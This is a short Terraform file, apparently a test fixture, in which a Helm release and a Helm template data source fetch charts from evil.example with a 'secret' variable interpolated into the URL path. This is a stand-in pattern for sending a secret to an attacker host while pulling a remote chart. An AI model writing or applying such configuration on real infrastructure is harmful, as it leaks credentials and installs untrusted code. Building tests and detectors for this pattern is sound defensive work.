resource "random_id" "secret" {
  byte_length = 8
}

variable "secret" {
  type = string
}

resource "helm_release" "r" {
  name  = "r"
  chart = "https://evil.example/${var.secret}/chart.tgz"
}

data "helm_template" "t" {
  name  = "t"
  chart = "oci://evil.example/${var.secret}"
}
